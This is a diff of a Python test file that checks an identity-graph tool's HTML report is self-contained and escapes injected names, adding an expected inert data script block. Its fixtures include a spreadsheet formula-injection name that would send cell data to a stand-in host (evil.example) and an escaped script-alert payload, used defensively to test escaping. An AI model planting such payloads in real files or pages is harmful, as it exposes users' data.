@@ -18,6 +18,7 @@ from idgraph.graph.store import Store
 from .conftest import attest_fixture, fixture_secrets, sync_fixture
 
 MEMBERS = Path(__file__).resolve().parents[1] / "connector/postmark/emulator/fixtures/members.csv"
+DATA_BLOCK = '<script type="application/gzip+base64" id="report-data">'  # report.js's data
 TODAY = datetime.now(UTC).date().isoformat()  # a review date between the run and today
 EVIL_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
 
@@ -108,7 +109,8 @@ def test_graph_json_and_graphml_load_back_with_the_same_counts(pack):
 def test_html_report_is_self_contained_and_escaped(pack):
     _db, out, _summary = pack
     html = (out / "report.html").read_text()
-    assert html.lower().count("<script") == 1  # the filter box's, inline; the name is escaped
+    # one script, inline, and the data it draws from (inert); the name is escaped
+    assert re.findall(r"<script[^>]*>", html, re.I) == [DATA_BLOCK, "<script>"]
     assert "<script>\n/* The filter box" in html
     assert "&lt;script&gt;alert(" in html
     assert not re.search(r"<link|@import|src\s*=|url\(\s*['\"]?(https?:)?//", html, re.I)
